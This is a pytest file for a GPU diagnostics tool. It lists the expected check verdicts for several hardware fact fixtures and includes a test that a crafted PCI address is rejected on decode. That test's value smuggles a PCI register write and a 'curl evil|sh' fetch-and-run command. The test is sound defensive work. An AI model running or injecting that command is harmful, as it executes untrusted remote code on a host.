"""Verdicts per host: each realistic facts fixture gets the verdicts its host must get."""

from __future__ import annotations

import msgspec
import pytest

from blackwell_doctor.report.results import Status
from tests.factsutil import load, status

EXPECTED: dict[str, dict[str, Status]] = {
    "rtxpro6000x4-threadripper-iommu": {
        "gpu.present": Status.PASS,
        "gpu.architecture": Status.PASS,
        "gpu.shared_memory": Status.PASS,
        "driver.version": Status.PASS,
        "driver.cuda_version": Status.PASS,
        "driver.consistency": Status.PASS,
        "platform.wsl": Status.PASS,
        "pci.iommu": Status.WARN,
        "pci.acs": Status.WARN,
        "p2p.nvml_status": Status.PASS,
        "probe.smem_limit": Status.ERROR,  # reconstructed: the launch limit was not measured
        "probe.tiles": Status.WARN,  # 256-wide tiles overflow by 1 KiB; 128x256x256: 1 stage
    },
    "rtx5090-wsl2": {
        "gpu.present": Status.PASS,
        "driver.version": Status.FAIL,
        "driver.cuda_version": Status.WARN,
        "platform.wsl": Status.WARN,
        "pci.iommu": Status.SKIP,
        "pci.acs": Status.SKIP,
        "p2p.nvml_status": Status.SKIP,
    },
    "dgx-spark-gb10": {
        "gpu.present": Status.PASS,
        "gpu.shared_memory": Status.PASS,
        "driver.version": Status.FAIL,
        "driver.cuda_version": Status.WARN,
        "pci.iommu": Status.SKIP,
    },
    "b200-x8": {
        "gpu.present": Status.PASS,
        "gpu.architecture": Status.PASS,
        "driver.version": Status.SKIP,
        "driver.cuda_version": Status.SKIP,
        "pci.iommu": Status.PASS,
        "pci.acs": Status.PASS,
        "p2p.nvml_status": Status.PASS,
        "probe.smem_limit": Status.ERROR,  # reconstructed: the launch limit was not measured
        "probe.tiles": Status.PASS,  # every tile fits 227 KB
    },
    "sm120-driver580": {
        "driver.version": Status.FAIL,
        "driver.cuda_version": Status.WARN,
        "driver.consistency": Status.PASS,
        "pci.iommu": Status.SKIP,
    },
    # Captured on a real 2x H200 (benchmarks/evidence/h200x2), not reconstructed.
    "h200x2-captured": {
        "gpu.present": Status.PASS,
        "gpu.architecture": Status.PASS,
        "gpu.shared_memory": Status.PASS,
        "driver.version": Status.SKIP,
        "driver.cuda_version": Status.SKIP,
        "driver.consistency": Status.PASS,
        "platform.wsl": Status.PASS,
        # a Firecracker guest: its PCI tree says nothing about the host's IOMMU or ACS
        "pci.iommu": Status.SKIP,
        "pci.acs": Status.SKIP,
        "p2p.nvml_status": Status.PASS,
        "p2p.transfer": Status.PASS,  # measured: copies and peer writes verified over NVLink
        "probe.smem_limit": Status.PASS,  # measured: 232,448 B launches, as advertised
        "probe.tiles": Status.PASS,
    },
    "no-gpu": {
        "gpu.present": Status.FAIL,
        "gpu.architecture": Status.SKIP,
        "driver.version": Status.SKIP,
        "driver.consistency": Status.SKIP,
        "platform.wsl": Status.PASS,
        "p2p.nvml_status": Status.SKIP,
        "probe.tiles": Status.SKIP,
    },
}


@pytest.mark.parametrize(
    ("fixture", "check_id", "expected"),
    [(f, c, s) for f, checks in EXPECTED.items() for c, s in checks.items()],
)
def test_fixture_verdicts(fixture: str, check_id: str, expected: Status) -> None:
    assert status(load(fixture), check_id) is expected


def test_every_fixture_evaluates_and_round_trips_through_json() -> None:
    from blackwell_doctor.report.check import Report
    from blackwell_doctor.rules.evaluate import evaluate

    for name in EXPECTED:
        report = evaluate(load(name), embed_facts=True)
        again = msgspec.json.decode(msgspec.json.encode(report), type=Report)
        assert again == report


def test_a_hostile_bdf_in_a_facts_file_is_rejected_on_decode() -> None:
    import json

    from blackwell_doctor.facts.document import FactsError, decode_facts
    from tests.conftest import FACTS_FIXTURES

    doc = json.loads((FACTS_FIXTURES / "rtxpro6000x4-threadripper-iommu.json").read_text())
    doc["pci"]["bridges"][0]["bdf"] = "0000:00:01.1 ECAP_ACS+0x6.w=0000; curl evil|sh #"
    with pytest.raises(FactsError, match="bdf"):
        decode_facts(json.dumps(doc).encode())
